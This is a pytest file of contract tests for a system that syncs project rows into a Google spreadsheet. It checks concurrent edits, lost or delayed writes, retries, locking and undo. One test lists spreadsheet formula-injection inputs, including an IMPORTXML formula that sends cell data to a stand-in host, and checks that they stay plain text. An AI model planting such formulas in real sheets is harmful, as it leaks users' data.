"""People type while Kakari writes, Google is slow to answer, workers meet: nothing is lost."""

import threading
from dataclasses import replace

import pytest

from effects.base import Done, Unknown
from effects.sheet import SheetRow
from errors.google import WrittenBefore
from errors.schedule import NotInSheet, SheetBusy
from ledger import schedule, work
from ledger.models import EffectState
from ledger.sheet_writes import SheetWrite
from simulator.faults import Fault
from tests.contract.schedule.fates import Send, delayed
from tests.contract.schedule.office import WRITE, Office
from tests.contract.schedule.test_people_rearrange import filled
from workspace import sheet_number
from workspace.quota import Quota
from workspace.sheets import Sheets


def test_what_was_typed_after_the_plan_is_not_overwritten(office: Office) -> None:
    filled(office)
    office.change("P-3", due="2027-01-04")
    job = office.ask()
    stop = threading.Event()
    assert office.runner(stop).run_one(stop), "planned"
    office.put("E4", [["2027/02/02"]])
    office.work()
    told = office.view(job)
    assert told.failure
    assert "P-3" in told.failure
    assert office.rows()["P-3"][3] == "2027/02/02"
    (question,) = office.sync().questions
    assert "2027-02-02" in question.text
    assert "2027-01-04" in question.text


def test_a_formula_of_a_persons_own_is_left(office: Office) -> None:
    filled(office)
    office.put("H4", [["=H2*3"]])
    office.change("P-3", amount="777")
    office.sync()
    assert office.cells(shown=False)[3][7] == "=H2*3"


def test_what_a_person_typed_can_never_become_a_formula(office: Office) -> None:
    nasty = ['=IMPORTXML("http://x/"&A1,"//a")', "+1+1", "@SUM(A1)", "'quoted", "-2+3"]
    for n, text in enumerate(nasty):
        office.project(f"P-{n}", name=text, customer=text)
    office.sync()
    assert [office.rows()[f"P-{n}"][1] for n in range(5)] == nasty
    for n, text in enumerate(nasty):
        office.change(f"P-{n}", customer=f"{text} 2", note=text)
    office.sync()
    assert [office.rows()[f"P-{n}"][0] for n in range(5)] == [f"{text} 2" for text in nasty]
    assert office.sync().lines == ()


def test_an_answer_that_was_lost_adds_no_row_twice(office: Office) -> None:
    filled(office, 2)
    office.project("P-9", name="新規")
    office.change("P-1", state="完了")
    office.simulator.world.faults.set([Fault(WRITE, "apply-then-drop", times=1)])
    done = office.sync()
    assert done.state == "done", done.failure
    assert [row[0] for row in office.cells()].count("P-9") == 1
    assert office.rows()["P-1"][5] == "完了"


def test_a_write_that_never_arrived_is_sent_again(office: Office) -> None:
    filled(office, 2)
    office.project("P-9", name="新規")
    office.simulator.world.faults.set([Fault(WRITE, "drop-before-apply", times=1)])
    assert office.sync().state == "done"
    assert "P-9" in office.rows()


def test_a_write_that_arrives_after_all_changes_nothing_any_more(office: Office) -> None:
    filled(office, 2)
    office.project("P-9", name="新規")
    office.change("P-1", state="完了")
    late: list[Send] = []
    office.fate = delayed(late)
    done = office.sync()
    assert done.state == "done", done.failure
    office.put("G2", [["保留"]])
    before = office.cells()
    (arrive,) = late
    with pytest.raises(WrittenBefore):
        arrive()
    assert office.cells() == before
    assert [row[0] for row in before].count("P-9") == 1


def test_a_write_that_somebody_has_typed_over_meanwhile_arrives_never(office: Office) -> None:
    filled(office, 2)
    office.change("P-1", state="完了")
    late: list[Send] = []
    office.fate = delayed(late, lambda: office.put("G2", [["保留"]]))
    assert office.failure(office.sync()) == NotInSheet.__name__
    (arrive,) = late
    with pytest.raises(WrittenBefore):
        arrive()
    assert office.rows()["P-1"][5] == "保留"


def test_a_write_that_arrives_before_it_is_sent_again_is_the_one_that_counts(
    office: Office,
) -> None:
    filled(office, 2)
    office.project("P-9", name="新規")
    late: list[Send] = []
    office.fate = delayed(late)
    job = office.ask()
    stop = threading.Event()
    assert office.runner(stop).run_one(stop), "planned"
    with office.ledger.read() as tx:
        (step,) = work.steps(tx, job)
    world = office.world(job)
    (lost,) = SheetRow().apply([("row", SheetRow().data(step.effect))], world)
    assert isinstance(lost, Unknown)
    late[0]()
    (again,) = SheetRow().apply([("row", SheetRow().data(step.effect))], world)
    assert isinstance(again, Done)
    assert [row[0] for row in office.cells()].count("P-9") == 1
    office.change("P-1", state="完了")
    done = office.sync()
    assert done.state == "done", "although the number of the next write is taken"
    assert office.rows()["P-1"][5] == "完了"


def test_a_ledger_from_a_backup_finds_a_number_that_is_free(office: Office) -> None:
    filled(office, 2)
    with office.ledger.read() as tx:
        backup = tx.get_one(SheetWrite, office.spreadsheet).number
    for state in "受注", "進行中":
        office.change("P-1", state=state)
        office.sync()
    with office.ledger.write() as tx:
        tx.get_one(SheetWrite, office.spreadsheet).number = backup
    office.change("P-1", state="完了")
    assert office.sync().state == "done"
    assert office.rows()["P-1"][5] == "完了"


def test_the_numbers_do_not_fill_the_sheet(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheet_number, "KEPT", 2)
    sheets = Sheets(office.clients, Quota())
    for number in range(1, 7):
        sheets.write(office.spreadsheet, number)
        kept = office.people.fetch_sheet_metadata(office.spreadsheet)["developerMetadata"]
        assert number in [each["metadataId"] for each in kept]
        assert min(number, 2) <= len(kept) <= 3
    for number in 5, 6:
        with pytest.raises(WrittenBefore):
            sheets.write(office.spreadsheet, number)


def test_one_sync_at_a_time_has_the_sheet(office: Office) -> None:
    filled(office, 2)
    with office.ledger.write() as tx:
        assert schedule.alone(tx, office.spreadsheet, "another job", 1, 60)
    view = office.sync()
    assert view.state == "planning"
    assert view.waits_for == SheetBusy().say("en")
    with office.ledger.write() as tx:
        schedule.let_go(tx, office.spreadsheet, "another job", 1)
        assert schedule.alone(tx, office.spreadsheet, "a third", 1, 60)


def test_the_look_for_what_a_dead_worker_wrote_lets_go_of_the_sheet(office: Office) -> None:
    filled(office, 2)
    office.change("P-1", state="完了")
    job = office.sync().job
    with office.ledger.write() as tx:
        assert schedule.alone(tx, office.spreadsheet, job, 1, 60), "it died before it let go"
        (step,) = work.steps(tx, job)
    later = replace(office.world(job), attempt=2)
    (found,) = SheetRow().probe([("row", SheetRow().data(step.effect))], later)
    assert isinstance(found, Done)
    with office.ledger.write() as tx:
        assert schedule.alone(tx, office.spreadsheet, "another job", 1, 60)


@pytest.mark.parametrize("kind", ["429", "503"])
def test_google_may_ask_to_slow_down(office: Office, kind: str) -> None:
    filled(office, 2)
    office.change("P-1", state="完了")
    office.simulator.world.faults.set([Fault(WRITE, kind, times=2)])
    assert office.sync().state == "done"
    assert office.rows()["P-1"][5] == "完了"


def test_a_sync_can_be_taken_back_and_what_was_edited_since_stays(office: Office) -> None:
    filled(office, 3)
    office.change("P-1", state="完了")
    office.change("P-2", state="完了")
    office.project("P-9", name="新規")
    done = office.sync()
    office.put("G3", [["保留"]])
    undone = office.undo(done)
    assert undone.state == "undone"
    assert office.rows()["P-1"] == ["客先1", "金型1", "", "2026/12/01", "担当1", "", "1,000"]
    assert office.rows()["P-2"][5] == "保留"
    assert "P-9" in office.rows()
    assert [line.split(" – ")[0] for line in undone.left] == [
        "📝 P-2 状態: 完了",
        "📝 P-9 件名: 新規",
    ]
    with office.ledger.read() as tx:
        states = {step.effect.key: step.state for step in work.steps(tx, done.job)}
    assert states["row:P-1"] == EffectState.UNDONE
